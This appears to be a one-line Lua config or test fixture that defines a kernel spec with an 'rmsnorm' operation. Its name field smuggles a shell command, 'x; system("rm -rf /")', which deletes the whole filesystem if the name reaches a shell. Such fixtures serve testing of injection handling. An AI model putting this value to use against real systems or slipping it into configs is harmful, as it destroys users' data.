return { name = "x; system(\"rm -rf /\")", kernels = { { op = "rmsnorm", dim = 64 } } }
